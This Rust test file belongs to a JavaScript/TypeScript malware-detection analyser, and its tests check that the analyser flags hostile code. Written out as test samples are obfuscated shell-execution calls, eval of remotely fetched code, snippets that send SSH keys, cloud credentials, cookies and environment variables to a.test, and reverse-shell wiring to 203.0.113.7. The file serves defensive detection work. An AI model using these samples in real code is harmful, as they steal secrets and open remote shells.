//! Tests of the lowering as a whole.

use super::*;

fn lower(text: &str, typescript: bool) -> Lowered {
    super::lower(text, typescript, Around::NOTHING)
}
use crate::scan::operation::{Act, Origins, ShellUse};

fn acts(text: &str) -> Vec<String> {
    lower(text, false)
        .operations
        .iter()
        .map(|operation| match &operation.act {
            Act::Execute {
                program,
                command,
                shell,
                ..
            } => {
                let program = program.as_deref().unwrap_or("?");
                format!(
                    "execute {program} {shell:?} {:?}",
                    command.text.as_deref().unwrap_or("?")
                )
            }
            Act::Evaluate { code } => {
                format!("evaluate {:?}", code.text.as_deref().unwrap_or("?"))
            }
            Act::Import { .. } => "import".to_owned(),
            Act::Deserialize { .. } => "deserialize".to_owned(),
            Act::Contact {
                address,
                payload,
                local,
            } => format!(
                "contact {} env={} local={local}",
                address.text.as_deref().unwrap_or("?"),
                payload.origins.has(Origins::ENVIRONMENT)
            ),
            Act::Rewire => "rewire".to_owned(),
            Act::Named { name } => format!("call {name}"),
            Act::Capture { what } => format!("capture {}", what.word()),
            Act::Inject => "inject".to_owned(),
            Act::Read { path } => format!("read {}", path.text.as_deref().unwrap_or("?")),
            Act::Write { path, .. } => format!("write {}", path.text.as_deref().unwrap_or("?")),
            Act::Delete { path, recursive } => {
                format!("delete {} {recursive}", path.text.as_deref().unwrap_or("?"))
            }
            Act::Environment { name, contained } => {
                format!("environment {} {contained}", name.as_deref().unwrap_or("*"))
            }
        })
        .collect()
}

#[test]
fn programs_and_shells() {
    let text = "import * as cp from 'node:child_process';\n\
        cp.execFile('git', ['status']);\n\
        cp.spawnSync('/bin/sh', ['-lc', 'ls ' + '-l']);\n\
        cp.spawn('ls', { shell: on });\n\
        cp.fork('./w.js');\n";
    assert_eq!(
        acts(text),
        [
            "execute git No \"git status\"",
            "execute sh Yes \"ls -l\"",
            "execute ls Unproven \"ls\"",
            "execute node No \"./w.js\"",
        ]
    );
    assert!(
        lower(text, false)
            .operations
            .iter()
            .any(|operation| matches!(
                operation.act,
                Act::Execute {
                    shell: ShellUse::Yes,
                    ..
                }
            ))
    );
}

#[test]
fn constants_are_folded() {
    assert_eq!(acts("eval(atob('MSsx'))"), ["evaluate \"1+1\""]);
    assert_eq!(
        acts("eval(['a', 'b'].join('') + `${'c'}`)"),
        ["evaluate \"abc\""]
    );
    assert_eq!(
        acts("eval('cba'.split('').reverse().join(''))"),
        ["evaluate \"abc\""]
    );
    assert_eq!(
        acts("eval(String.fromCharCode(104, 105))"),
        ["evaluate \"hi\""]
    );
}

#[test]
fn the_environment_as_a_whole_or_by_name() {
    assert_eq!(
        acts("const k = process.env.API_KEY;"),
        ["environment API_KEY false"]
    );
    assert_eq!(
        acts("const { HOME } = process.env;"),
        ["environment HOME false"]
    );
    assert_eq!(
        acts("const e = process.env; f(e.HOME, e[k]);"),
        ["environment HOME false", "environment * true"]
    );
    assert_eq!(
        acts("f({ env: { ...process.env, A: '1' } })"),
        ["environment * true"]
    );
    assert_eq!(acts("process.env.A = '1';"), Vec::<String>::new());
    assert_eq!(
        acts(
            "fetch('https://x.example.com/', { method: 'POST', body: JSON.stringify(process.env) })"
        ),
        [
            "contact https://x.example.com/ env=true local=false",
            "environment * false"
        ]
    );
}

#[test]
fn files_networks_and_wires() {
    assert_eq!(
        acts("const fs = require('fs/promises'); fs.rm('/x', { recursive: true });"),
        ["delete /x true"]
    );
    assert_eq!(
        acts("import { readFileSync as r } from 'fs'; r('/etc/passwd');"),
        ["read /etc/passwd"]
    );
    assert_eq!(
        acts("require('http').get('http://localhost:1/')"),
        ["contact http://localhost:1/ env=false local=true"]
    );
    assert_eq!(
        acts(
            "const net = require('net'), cp = require('child_process');\nconst s = net.connect(1, h), p = cp.spawn('sh');\ns.pipe(p.stdin); p.stdout.pipe(s);"
        ),
        [
            "contact ? env=false local=false",
            "execute sh No \"sh\"",
            "rewire",
            "rewire"
        ]
    );
}

#[test]
fn imports_of_all_kinds() {
    let text = "import a from './a.js';\nexport * from './b.js';\nconst c = require('./c');\nawait import('./d.mjs');\nrequire(x);\n";
    let lowered = lower(text, false);
    let names: Vec<&str> = lowered
        .imports
        .iter()
        .map(|import| import.name.as_str())
        .collect();
    assert_eq!(names, ["./a.js", "./b.js", "./c", "./d.mjs"]);
    assert_eq!(acts(text), ["import"]);
}

#[test]
fn scopes_hide_and_give_back() {
    assert_eq!(
        acts(
            "const { exec } = require('child_process');\n{ const exec = f; exec('a'); }\nfunction g(exec) { exec('b'); }\nexec('c');"
        ),
        ["execute c Yes \"c\""]
    );
}

#[test]
fn a_broken_line_costs_only_itself() {
    let text = "eval(a);\nthis is no script\neval(b);\n";
    let lowered = lower(text, false);
    assert_eq!(lowered.operations.len(), 2);
    assert!(matches!(lowered.incomplete, Some(Incomplete::Syntax(_, _))));
    assert_eq!(
        lower(
            "#!/usr/bin/env node\nconst a = <b>c</b>;\nreturn 1;\n",
            false
        )
        .incomplete,
        None
    );
    assert_eq!(
        lower("const a: string = <string>b;\n", true).incomplete,
        None
    );
    assert_eq!(
        lower("const a: string = 'x' as string;\n", false).incomplete,
        None
    );
}

#[test]
fn hostile_shapes_neither_overflow_nor_hang() {
    for (head, middle, tail) in [
        ("(", "1", ")"),
        ("[", "1", "]"),
        ("`${", "1", "}`"),
        ("{", "", "}"),
        ("a=>", "1", ""),
        ("!", "1", ""),
        ("a?1:", "1", ""),
        ("if(1)", ";", ""),
        ("a=", "1", ""),
        ("<a>", "", "</a>"),
        ("f(", "1", ")"),
        ("new ", "a", ""),
        ("a**", "1", ""),
        ("if(1);else ", ";", ""),
        ("a<", "1", ""),
        ("a+", "1", ""),
        ("", "a", ".b"),
        ("", "a", "()"),
        ("", "a", "``"),
        ("a:", ";", ""),
        ("", "a", "!"),
        ("", "a", " as b"),
        ("", "eval", "(eval)"),
        ("x[", "1", "]"),
        ("type A=", "B", "[]"),
        ("", "let a = b", ".c;"),
        ("a&&", "1", ""),
        ("- ", "1", ""),
        ("await ", "1", ""),
        ("", "type A = a", ".b"),
        ("", "<a", ".b"),
        ("class A extends ", "B", "{}"),
        ("a<<", "1", ""),
        ("a <", "<T>1", ""),
        ("({a:", "1", "})"),
        ("f(()=>{", "", "})"),
        ("async function f(){", "", "}"),
        ("class A{m(){", "", "}}"),
        ("f(function(a=", "1", "){})"),
        ("[...[", "1", "]]"),
        ("eval(eval(", "a", "))"),
        ("const {a:", "b", "}=c"),
        ("\"(\"+(", "1", ")"),
    ] {
        // Without a stack of its own, with one, and too deep.
        for many in [36, 70, 140, 600, 1900, 30_000] {
            for typescript in [false, true] {
                let text = format!("{}{middle}{}", head.repeat(many), tail.repeat(many));
                std::hint::black_box(lower(&text, typescript));
            }
        }
    }
}

/// What is run by a shell or as a program, and what is run as code.
fn runs(text: &str) -> Vec<String> {
    lower(text, false)
        .operations
        .iter()
        .filter_map(|operation| match &operation.act {
            Act::Execute { command, .. } => Some(command.text.clone().unwrap_or_default()),
            Act::Evaluate { code } => {
                let text = code.text.clone().unwrap_or_default();
                let from = if code.origins.has(Origins::NETWORK) {
                    "net:"
                } else {
                    ""
                };
                Some(format!("{from}{text}"))
            }
            _ => None,
        })
        .collect()
}

#[test]
fn a_command_is_found_however_it_is_written() {
    for text in [
        "require('child_process').exec('id')",
        "require('node:child_process')['ex' + 'ec']('id')",
        "import('child_process').then(({ exec }) => exec('id'))",
        "const { execSync: run } = await import('node:child_process'); run('id');",
        "module.require('child_process').exec('id')",
        "process.mainModule.require('child_process').exec('id')",
        "globalThis['re' + 'quire']('child_process').exec('id')",
        "require(atob('Y2hpbGRfcHJvY2Vzcw==')).exec('id')",
        "require(Buffer.from('6368696c645f70726f63657373', 'hex').toString()).exec('id')",
        "const c = require('child_process'); c[String.fromCharCode(101, 120, 101, 99)]('id')",
        "const c = require('child_process'); c[['c', 'e', 'x', 'e'].reverse().join('')]('id')",
        "const a = ['child_', 'process', 'ex', 'ec']; require(a[0] + a[1])[a[2] + a[3]]('id')",
        "require('child_process').exec.call(null, 'id')",
        "require('child_process').exec.apply(null, ['id'])",
        "require('child_process').exec.bind(null, 'id')()",
        "Reflect.apply(require('child_process').exec, null, ['id'])",
        "require('util').promisify(require('child_process').exec)('id')",
        "const { createRequire } = require('module'); createRequire(import.meta.url)('child_process').exec('id')",
        "class A { constructor(c) { this.c = c; } go() { require('child_process').exec(this.c); } } new A('id').go();",
        "const o = { f: require('child_process').exec, l: ['id'] }; o.f(o.l[0]);",
        "['id'].forEach((c) => require('child_process').exec(c));",
        "function w(f, ...a) { return f(...a); } w(require('child_process').exec, 'id');",
        "let s = ''; for (const c of [105, 100]) s += String.fromCharCode(c); require('child_process').exec(s);",
        "let s = ''; for (let i = 0; i < 2; i++) s += String.fromCharCode('jg'.charCodeAt(i) ^ 3); require('child_process').exec(s);",
        "const d = (t) => Buffer.from(t, 'base64').toString(); require('child_process').exec(d('aWQ='));",
        "require('child_process').exec('iXd'.replace('X', ''))",
        "require('child_process').exec('iXd'.replace(/X/g, ''))",
        "require('child_process').exec(decodeURIComponent('%69%64'))",
        "require('child_process').exec('\\x69\\u0064')",
        "require('child_process').exec(String.raw`id`)",
        "require('child_process').exec([...'di'].reverse().join(''))",
        "require('child_process').exec([105, 100].map((c) => String.fromCharCode(c)).join(''))",
        "require('child_process').exec('6964'.match(/../g).map((h) => String.fromCharCode(parseInt(h, 16))).join(''))",
        "const run = (c) => new Promise((done) => require('child_process').exec(c, done)); run('id');",
        "Function('return this')().process.mainModule.require('child_process').exec('id')",
        "require('child_process').execFile('/bin/sh', ['-c', 'id'])",
        "import { $ } from 'zx'; await $`id`;",
        "import { $ } from 'bun'; await $`id`;",
        "import { execaCommand } from 'execa'; execaCommand('id');",
        "new Deno.Command('id').output()",
        "Bun.spawn(['id'])",
        "const p = require('child_process'); if (x) { p.exec('id'); } else { p.exec('id'); }",
        "const { exec } = require('child_process'); setTimeout(() => exec('id'), 9);",
        "const m = new Map([['r', require]]); m.get('r')('child_process').exec('id');",
        "new Proxy(require('child_process'), {}).exec('id');",
        "Object.create(require('child_process')).exec('id');",
        "({ ...require('child_process') }).exec('id');",
        "const s = Symbol('x'); const o = { [s]: require('child_process').exec }; o[s]('id');",
        "function C() { this.e = require('child_process').exec; } C.prototype.go = function () { this.e('id'); }; new C().go();",
        "module.exports = { run(c) { require('child_process').exec(c); } }; module.exports.run('id');",
        "const b = new Uint8Array([105, 100]); require('child_process').exec(new TextDecoder().decode(b));",
        "const f = function* () { yield 'id'; }; for (const c of f()) require('child_process').exec(c);",
        "const r = (s) => s.replace(/[a-z]/g, (c) => String.fromCharCode(((c.charCodeAt(0) - 97 + 13) % 26) + 97)); require('child_process').exec(r('vq'));",
        "var a = ['exec', 'child_process', 'id']; var f = function (i) { i = i - 0x10; return a[i]; }; require(f('0x11'))[f('0x10')](f('0x12'));",
        "Promise.resolve('id').then(require('child_process').exec);",
        "const cp = require('child_process'); const t = { a: { b: (c) => cp.exec(c) } }; t.a.b('id');",
    ] {
        let found = runs(text);
        assert!(found.iter().any(|run| run == "id"), "{text}: {found:?}");
    }
}

#[test]
fn code_is_found_however_it_is_run() {
    for text in [
        "eval('id')",
        "(0, eval)('id')",
        "const e = eval; e('id');",
        "window['ev' + 'al']('id')",
        "new Function('id')()",
        "Function('id')()",
        "Reflect.construct(Function, ['id'])()",
        "[].constructor.constructor('id')()",
        "(() => {}).constructor('id')()",
        "[]['filter']['constructor']('id')()",
        "[][(![]+[])[+[]]+(![]+[])[+!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]['constructor']('id')()",
        "setTimeout('id', 1)",
        "require('vm').runInThisContext('id')",
        "new (require('vm').Script)('id').runInThisContext()",
        "new (require('worker_threads').Worker)('id', { eval: true })",
        "import('data:text/javascript,id')",
        "eval(function(p,a,c,k,e,d){e=function(c){return c};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0',1,1,'id'.split('|'),0,{}))",
        "(function (a, n) { const r = (k) => { while (--k) a.push(a.shift()); }; r(++n); })(l = ['id', 'x', 'y'], 2); eval(l[1]);",
    ] {
        let found = runs(text);
        assert!(found.iter().any(|run| run == "id"), "{text}: {found:?}");
    }
    for text in [
        "fetch('https://a.example.com/x').then((r) => r.text()).then(eval)",
        "const r = await fetch('https://a.example.com/x'); new Function(await r.text())();",
        "import axios from 'axios'; axios.get('https://a.example.com/x').then(({ data }) => eval(data));",
        "require('https').get('https://a.example.com/x', (res) => { let b = ''; res.on('data', (d) => (b += d)); res.on('end', () => eval(b)); });",
        "async function load() { const r = await fetch('https://a.example.com/x'); return r.text(); } load().then((c) => eval(c));",
        "const x = new XMLHttpRequest(); x.open('GET', 'https://a.example.com/x'); x.onload = () => eval(x.responseText); x.send();",
    ] {
        let found = runs(text);
        assert!(found.iter().any(|run| run == "net:"), "{text}: {found:?}");
    }
}

/// What leaves: where to, and what of.
fn leaves(text: &str) -> Vec<String> {
    lower(text, false)
        .operations
        .iter()
        .filter_map(|operation| match &operation.act {
            Act::Contact {
                address, payload, ..
            } => {
                let kinds = [
                    (Origins::SENSITIVE, "secret"),
                    (Origins::ENVIRONMENT, "environment"),
                    (Origins::CAPTURED, "captured"),
                    (Origins::VARIABLE, "variable"),
                ];
                let kind = kinds
                    .iter()
                    .find(|(origin, _)| payload.origins.has(*origin))?
                    .1;
                let way = payload.way.steps().first()?.event.to_string();
                let to = address.text.as_deref().unwrap_or("?");
                Some(format!("{kind} to {to}: {way}"))
            }
            _ => None,
        })
        .collect()
}

#[test]
fn what_leaves_is_followed_however_it_goes() {
    let key = "const fs = require('fs'), os = require('os'), path = require('path');\n\
        const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');\n";
    for sink in [
        "fetch('https://a.test/', { method: 'POST', body: JSON.stringify({ key }) });",
        "require('axios').post('https://a.test/', key);",
        "require('axios')({ url: 'https://a.test/', data: { k: key } });",
        "require('axios').create({ baseURL: 'https://a.test' }).post('/', { key });",
        "const r = require('https').request('https://a.test/'); r.write(key); r.end();",
        "require('https').get(`https://a.test/?k=${Buffer.from(key).toString('base64')}`);",
        "require('got').post('https://a.test/', { json: { key } });",
        "require('superagent').post('https://a.test/').send({ key }).end();",
        "navigator.sendBeacon('https://a.test/', key);",
        "new Image().src = 'https://a.test/?' + encodeURIComponent(key);",
        "const x = new XMLHttpRequest(); x.open('POST', 'https://a.test/'); x.send(key);",
        "const w = new WebSocket('https://a.test/'); w.onopen = () => w.send(key);",
        "const f = new FormData(); f.append('f', key); fetch('https://a.test/', { body: f });",
        "const send = async (d) => fetch('https://a.test/', { body: d }); send(key);",
        "[key].map((k) => k.slice(0, 9)).forEach((k) => fetch('https://a.test/?' + k));",
        "const u = new URL('https://a.test/'); u.searchParams.append('k', key); fetch(u.href + '?' + key);",
    ] {
        let text = format!("{key}{sink}");
        let found = leaves(&text);
        assert!(
            found
                .iter()
                .any(|one| one.starts_with("secret to https://a.test/")
                    && one.ends_with("reads `~/.ssh/id_rsa`")),
            "{sink}: {found:?}"
        );
    }
    for (source, want) in [
        ("const d = process.env;", "environment"),
        ("const d = { ...process.env };", "environment"),
        ("const { A, ...d } = process.env;", "environment"),
        (
            "const d = Object.entries(process.env).filter(([k]) => /KEY/.test(k)).map(([k, v]) => k + v).join();",
            "environment",
        ),
        (
            "const d = {}; for (const k in process.env) d[k] = process.env[k];",
            "environment",
        ),
        ("const d = Deno.env.toObject();", "environment"),
        ("const d = process['e' + 'nv'].API_TOKEN;", "variable"),
        ("const d = Deno.env.get('API_TOKEN');", "variable"),
        ("const d = require('clipboardy').readSync();", "captured"),
        ("const d = document.cookie;", "secret"),
        (
            "const d = await require('fs').promises.readFile(process.env.HOME + '/.netrc');",
            "secret",
        ),
        (
            "const d = await Deno.readTextFile(`${Deno.env.get('HOME')}/.aws/credentials`);",
            "secret",
        ),
        (
            "const d = require('fs-extra').readFileSync(require('os').homedir() + '/.kube/config');",
            "secret",
        ),
        (
            "const d = require('child_process').execSync('cat ~/.ssh/id_rsa').toString();",
            "secret",
        ),
        (
            "const d = require('child_process').execSync('printenv');",
            "environment",
        ),
        (
            "const fs = require('fs'), p = require('os').homedir() + '/.ssh/'; const d = fs.readdirSync(p).map((f) => fs.readFileSync(p + f));",
            "secret",
        ),
    ] {
        let text = format!(
            "{source}\nfetch('https://a.test/', {{ method: 'POST', body: JSON.stringify(d) }});"
        );
        let found = leaves(&text);
        assert!(
            found.iter().any(|one| one.starts_with(want)),
            "{source}: {found:?}"
        );
    }
}

#[test]
fn what_stays_is_not_said_to_leave() {
    for text in [
        "const k = process.env; console.log(k.HOME);",
        "fetch('https://a.test/', { headers: { 'X-Home': require('os').homedir() } });",
        "const t = document.cookie.match(/csrftoken=([^;]+)/)[1]; fetch('/x', { headers: { t } });",
        "const key = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa'); fetch('https://a.test/'); sign(key);",
        "require('child_process').spawn('ls', { env: { ...process.env } }); fetch('https://a.test/');",
        "const OpenAI = require('openai'); const c = new OpenAI({ apiKey: process.env.OPENAI_API_KEY }); c.chat.completions.create({ m: 1 }).then((r) => fetch('https://a.test/', { body: r }));",
    ] {
        assert_eq!(leaves(text), Vec::<String>::new(), "{text}");
    }
}

#[test]
fn sockets_and_shells_are_wired() {
    for text in [
        "const s = require('net').connect(4444, '203.0.113.7', () => { const sh = require('child_process').spawn('/bin/sh', []); s.pipe(sh.stdin); sh.stdout.pipe(s); });",
        "const net = require('net'), cp = require('child_process'); const c = new net.Socket(); const sh = cp.spawn('bash'); c.connect(1, '203.0.113.7', () => { c.pipe(sh.stdin); });",
        "const s = require('net').connect(1, '203.0.113.7'); const sh = require('child_process').spawn('sh'); s.on('data', (d) => sh.stdin.write(d));",
        "const s = require('tls').connect({ host: '203.0.113.7' }); require('child_process').spawn('sh', [], { stdio: [s, s, s] });",
    ] {
        let found = acts(text);
        assert!(found.iter().any(|act| act == "rewire"), "{text}: {found:?}");
    }
}

#[test]
fn a_long_bundle_is_read() {
    let module = "function(e,t){var n=t(1)?[2,!0]:{a:1};return e.exports=n,i<n&&'))}'};";
    let bundle = format!(
        "var m={{}};{}require('child_process').exec('id');",
        (0..12_000)
            .map(|at| format!("m[{at}]={module}"))
            .collect::<String>()
    );
    assert_eq!(depth::measure(&bundle), Depth::TooDeep);
    let lowered = lower(&bundle, false);
    assert_eq!(lowered.incomplete, None);
    assert!(
        lowered
            .operations
            .iter()
            .any(|operation| matches!(operation.act, Act::Execute { .. }))
    );
}

/// A long text is measured by its nesting: what it asks for must fit.
#[test]
fn long_texts_do_not_overflow() {
    let long = "a=1;".repeat(130_000);
    for piece in [
        "(",
        "[",
        "{",
        "`${",
        "if(a)",
        "if(a)b;else ",
        "x=",
        "a?",
        "a?b:",
        "a=>",
        "!",
        "- ",
        "do ",
        "l:",
        "new ",
        "typeof ",
        "for(;;)",
        "async a=>",
        "a**",
        "function f(){",
        "class A extends ",
        "(a,b)=>",
        "x=y=>",
        "a=b,c=",
        "a&&",
        "a||",
        "a??",
        "a+",
        "a?.b",
        "a,",
        "`a`",
        "a.b(",
        "()=>",
        "yield ",
        "await ",
        "[a]=",
        "({a:",
        "delete ",
        "if(a){}else ",
        "try{",
        "switch(a){case ",
        "while(a)do ",
        "label:for(;;)",
        "a?b:c,d=",
        "/a/",
        "}/a/",
        "\"",
        "'",
        "'\n",
        "//\n",
        "/*",
    ] {
        for count in [100, 1_900, 50_000] {
            std::hint::black_box(lower(&format!("{long}{}", piece.repeat(count)), false));
        }
    }
}

#[test]
#[expect(clippy::disallowed_methods, reason = "a test that measures time")]
fn hostile_programs_end() {
    let doubling = format!("let s = 'x';{}eval(s);", "s += s;".repeat(4000));
    let calls = format!(
        "function f0() {{}}{}f60();",
        (1..=60)
            .map(|at| format!("function f{at}() {{ f{0}(); f{0}(); }}", at - 1))
            .collect::<String>()
    );
    let names = format!(
        "{}x{}",
        "(() => { let a; ".repeat(300),
        "y;".repeat(200_000)
    );
    let lists = format!("const a = [];{}", "a.push(a); b = [a, a]; ".repeat(20_000));
    let growing = format!("let o = {{}};{}", "o = { o, p: o }; f(o); ".repeat(20_000));
    for text in [
        doubling.as_str(),
        calls.as_str(),
        names.as_str(),
        lists.as_str(),
        growing.as_str(),
        "while (true) { eval(x); }",
        "for (let i = 0; ; i++) f(i);",
        "let s = 'a'; for (let i = 0; i < 1e9; i++) s += s;",
        "function f(g) { return g(g); } f(f);",
        "const f = (n) => n < 2 ? n : f(n - 1) + f(n - 2); f(80);",
        "'x'.repeat(1e9); 'x'.padEnd(1e9); Array.from({ length: 1e9 }); new Array(1e9);",
        "const o = {}; o.o = o; JSON.stringify(o); String([o, o]); const a = []; a.push(a); a.join();",
        "class A extends A {} new A(); class B { get x() { return this.x; } }",
        "const p = new Proxy({}, { get: (t, k) => p[k] }); p.a.b.c();",
    ] {
        let begun = std::time::Instant::now();
        std::hint::black_box(lower(text, false));
        let took = begun.elapsed();
        let start: String = text.chars().take(60).collect();
        assert!(took.as_secs() < 20, "{start}: {took:?}");
    }
}

proptest::proptest! {
    #[test]
    fn token_soup_never_panics(text in "(const |let |var |function |async |await |class |import |export |from |require|eval|exec|process\\.env|\\(|\\)|\\[|\\]|\\{|\\}|=>|=|\\+|\\.|,|;|:|\\?|`|\\$\\{|'|\"|'child_process'|é|a|b|1|/|\\*|<|>|\\n| |#|@|\\\\){0,60}", typescript: bool) {
        for operation in lower(&text, typescript).operations {
            proptest::prop_assert!(text.get(operation.span.start..operation.span.end).is_some());
        }
    }
}
